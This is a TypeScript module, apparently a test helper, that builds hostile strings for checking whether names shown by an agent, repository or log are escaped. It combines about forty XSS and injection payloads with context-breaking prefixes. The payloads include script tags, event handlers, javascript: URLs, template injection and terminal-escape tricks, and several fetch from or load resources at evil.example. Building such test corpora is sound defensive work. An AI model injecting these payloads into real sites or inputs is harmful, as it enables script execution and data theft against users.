/** Texts that become code where they are not escaped: what an agent, a repository or a log may call itself. */

const code = "alert(1);window.hacked=1;fetch('http://evil.example/x')";

/** Markup that runs, loads, navigates or covers; `code` is told to show itself by a dialog and by a request. */
const markup = [
  `<script>${code}</script>`,
  `<ScRiPt>${code}</sCrIpT>`,
  `<script src="http://evil.example/x.js"></script>`,
  `<script type="module">${code}</script>`,
  `<img src=x onerror="${code}">`,
  `<img src="http://evil.example/pixel.png">`,
  `<img srcset="http://evil.example/pixel.png 1x">`,
  `<svg onload="${code}"></svg>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  `<svg><use href="http://evil.example/x.svg#a"></use></svg>`,
  `<math><mtext><img src=x onerror="${code}"></mtext></math>`,
  `<body onload="${code}">`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<object data="http://evil.example/x"></object>`,
  `<embed src="http://evil.example/x">`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<link rel="prefetch" href="http://evil.example/x">`,
  `<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/y)}</style>`,
  `<div style="background:url(http://evil.example/x)">x</div>`,
  `<base href="http://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<form action="http://evil.example/"><input autofocus onfocus="${code}"></form>`,
  `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
  `<details open ontoggle="${code}">x</details>`,
  `<video autoplay onloadstart="${code}"><source src="http://evil.example/v"></video>`,
  `<audio src="http://evil.example/a" onerror="${code}">`,
  `<marquee onstart="${code}">x</marquee>`,
  `<template><script>${code}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<xmp><img src=x onerror="${code}"></xmp>`,
  `<!--><img src=x onerror="${code}">-->`,
  `<![CDATA[<script>${code}</script>]]>`,
  `&lt;script&gt;${code}&lt;/script&gt;`,
  `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  `javascript:${code}`,
  `\${${code}}`,
  `{{constructor.constructor("${code}")()}}`,
  `\u001b]8;;javascript:${code}\u0007click\u001b]8;;\u0007`,
  `\u202e>tpircs/<${code}>tpircs<\u202c`,
  `\u0000<scr\u0000ipt>${code}</scr\u0000ipt>`,
];

/** What gets text out of where it stands: an attribute, an element, a comment, a string. */
const exits = [
  '',
  '">',
  "'>",
  '` ',
  '</script>',
  '</style>',
  '</title></textarea>',
  '</details></div></main>',
  '--><!--',
  ']]>',
  '"}]}</script>',
  "';\n",
];

/** Lists `count` different texts, at most as many as there are pairs of an exit and a markup. */
export function listHostileTexts(count: number): string[] {
  return exits.flatMap((exit) => markup.map((text) => exit + text)).slice(0, count);
}
